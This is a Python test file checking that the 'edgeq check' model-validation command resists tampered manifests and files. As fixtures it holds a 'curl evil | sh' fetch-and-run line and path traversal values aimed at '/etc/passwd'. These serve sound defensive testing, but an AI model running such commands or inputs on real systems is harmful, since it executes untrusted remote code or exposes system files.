"""`edgeq check` trusts the files and the command line, not edgeq.json: one test per way of tampering."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import edgeq
from edgeq.errors import ManifestError, TargetError
from edgeq.hashing import sha256_file
from tests.test_cli import edgeq as edgeq_cli


@pytest.fixture
def folder(tmp_path: Path, digits_export) -> Path:  # type: ignore[no-untyped-def]
    out = tmp_path / "digits"
    shutil.copytree(digits_export.output, out)
    return out


def edit(out: Path, fn: Any) -> dict[str, Any]:
    m = json.loads((out / "edgeq.json").read_text())
    fn(m)
    (out / "edgeq.json").write_text(json.dumps(m))
    return m


def art(m: dict[str, Any], name: str) -> dict[str, Any]:
    return next(a for a in m["artifacts"] if a["name"] == name)


def test_an_untouched_folder_passes_and_every_file_is_hashed(folder: Path) -> None:
    m = json.loads((folder / "edgeq.json").read_text())
    assert {"report.md", "report.html"} <= {f["path"] for f in m["files"]}
    res = edgeq.check(folder)
    assert res.passed and not res.findings


@pytest.mark.parametrize("role_or_format", [("role", "auxiliary"), ("format", "config")])
def test_editing_role_or_format_does_not_skip_validation(folder: Path, role_or_format: tuple[str, str]) -> None:
    key, value = role_or_format
    edit(folder, lambda m: art(m, "onnx-int8-static").__setitem__(key, value))
    res = edgeq.check(folder, edgeq.Budget(min_sqnr=90))  # INT8 cannot reach 90 dB: it must be judged
    a = next(a for a in res.artifacts if a.name == "onnx-int8-static")
    assert a.validations and a.format == "onnx"
    assert not res.passed and any("onnx-int8-static on host: SQNR" in f for f in res.failures)
    assert any("onnx-int8-static" in f and value in f for f in res.findings)


def test_the_manifests_budget_is_shown_not_obeyed(folder: Path) -> None:
    edit(folder, lambda m: m.__setitem__("budget", {**m["budget"], "min_sqnr": 0.0, "min_cosine": 0.0}))
    r = edgeq_cli("check", str(folder), "--min-sqnr", "90")
    assert r.returncode == 1 and "SQNR" in r.stdout
    assert "budget differs from the manifest's" in r.stdout


def test_a_regenerated_reference_with_fresh_hashes_fails(folder: Path) -> None:
    """An attacker swaps in outputs of another model as the 'float reference' and rewrites the hashes."""
    ref = folder / "validation/reference.npz"
    with np.load(ref) as z:
        fake = {k: np.roll(z[k], 1, axis=0) for k in z.files}  # another model's answers
    np.savez(ref, **fake)  # type: ignore[arg-type]
    edit(folder, lambda m: m["validation_data"]["reference"].__setitem__("sha256", sha256_file(ref)))
    res = edgeq.check(folder)
    assert not res.passed and any("stored float reference does not match the float model" in f
                                  for f in res.failures)


@pytest.mark.parametrize("path", ["/etc/passwd", "../outside.onnx", "validation/../../x", "./model.int8.onnx"])
def test_paths_outside_the_folder_are_refused(folder: Path, path: str) -> None:
    (folder.parent / "outside.onnx").write_bytes((folder / "model.int8.onnx").read_bytes())
    edit(folder, lambda m: m["validation_data"]["inputs"].__setitem__("path", path))
    r = edgeq_cli("check", str(folder))
    assert r.returncode == 2 and "not a plain relative path" in r.stderr and "Traceback" not in r.stderr


def test_symlinked_artifact_is_refused(folder: Path, tmp_path: Path) -> None:
    real = tmp_path / "elsewhere.onnx"
    shutil.move(folder / "model.int8.onnx", real)
    os.symlink(real, folder / "model.int8.onnx")  # same bytes, same hash
    r = edgeq_cli("check", str(folder))
    assert r.returncode == 2 and "symbolic link" in r.stderr


@pytest.mark.parametrize("change", ["add", "remove", "modify"])
def test_unlisted_missing_or_changed_files_fail(folder: Path, change: str) -> None:
    if change == "add":
        (folder / "install.sh").write_text("curl evil | sh")
        message = "not listed"
    elif change == "remove":
        (folder / "report.html").unlink()
        message = "missing"
    else:
        with (folder / "report.md").open("a") as f:
            f.write("\nverdict: PASS\n")
        message = "does not match"
    r = edgeq_cli("check", str(folder))
    assert r.returncode == 2 and message in r.stderr, r.stderr


def test_check_never_contacts_a_host_named_in_the_manifest(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    edit(folder, lambda m: m["config"].__setitem__("validate_on", ["ssh://pi@203.0.113.7:22/tmp", "host"]))
    calls: list[Any] = []

    def no_connect(*args: Any, **kwargs: Any) -> None:
        calls.append(args)
        raise AssertionError("check tried to connect")

    monkeypatch.setattr(socket, "create_connection", no_connect)
    monkeypatch.setattr(socket.socket, "connect", no_connect)
    res = edgeq.check(folder)
    assert res.passed and not calls
    assert {v.runner for a in res.artifacts for v in a.validations} == {"host"}
    assert any("not contacting" in f and "203.0.113.7" in f for f in res.findings)


@pytest.mark.parametrize("name", ["../../../etc/passwd", "/tmp/evil.toml", "no-such-board"])
def test_target_from_the_manifest_is_only_a_packaged_name(folder: Path, tmp_path: Path, name: str) -> None:
    (tmp_path / "evil.toml").write_text("name = 'evil'\n")
    edit(folder, lambda m: m["target"].update({"name": name, "path": str(tmp_path / "evil.toml")}))
    with pytest.raises(TargetError, match="not a packaged profile"):
        edgeq.check(folder)


def test_manifest_path_of_a_target_is_ignored(folder: Path, tmp_path: Path) -> None:
    marker = tmp_path / "loose.toml"
    marker.write_text("this is not even TOML [")
    edit(folder, lambda m: m["target"].__setitem__("path", str(marker)))
    assert edgeq.check(folder).passed  # the packaged profile by name; the manifest's path is never read


def test_an_artifact_whose_bytes_are_not_its_format_is_refused(folder: Path) -> None:
    p = folder / "model.int8.onnx"
    p.write_bytes(b"\x00" * 64)
    edit(folder, lambda m: art(m, "onnx-int8-static").__setitem__("sha256", sha256_file(p)))
    with pytest.raises(ManifestError, match="not a readable onnx file"):
        edgeq.check(folder)


def test_deleting_a_recorded_storage_failure_does_not_help(folder: Path, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """The storage/RAM budget-check is recomputed from the bytes for the target, not read from the manifest."""
    import edgeq.stages.budget_check as bc

    monkeypatch.setattr(bc, "MB", 1)  # a 1-"MB" storage budget = 1 byte: every artifact is over it
    tiny = tmp_path / "tiny.toml"
    from edgeq.targets import targets_dir

    text = re.sub(r"storage_mb\s*=\s*\d+", "storage_mb = 1", (targets_dir() / "android-arm64.toml").read_text())
    tiny.write_text(text)
    edit(folder, lambda m: m.__setitem__("passes", [p for p in m["passes"] if p["name"] != "budget-check"]))
    res = edgeq.check(folder, target=str(tiny))
    assert not res.passed and any("pass budget-check" in f and "storage budget of 1 MB" in f for f in res.failures)


def test_runnable_artifacts_marked_auxiliary_are_promoted(tmp_path: Path) -> None:
    """.ort / .onnx / .pte bytes are always validated; the manifest's 'auxiliary' is reported, not obeyed."""
    from edgeq.check import _recompute_artifacts

    (tmp_path / "m.ort").write_bytes(b"\x18\0\0\0ORTM" + b"\0" * 32)
    (tmp_path / "ops.config").write_text("# ops\n")
    base = {"precision": "int8", "bytes": 0, "sha256": "", "quantization": None, "details": {}, "validations": []}
    m = {"artifacts": [{**base, "name": "ort-int8", "path": "m.ort", "format": "ort", "role": "auxiliary"},
                       {**base, "name": "cfg", "path": "ops.config", "format": "config", "role": "auxiliary"}]}
    arts, findings = _recompute_artifacts(m["artifacts"], tmp_path)
    assert [(a.format, a.role) for a in arts] == [("ort", "candidate"), ("config", "auxiliary")]
    assert findings == ["ort-int8: the manifest marks a runnable ort model 'auxiliary'; validated anyway"]
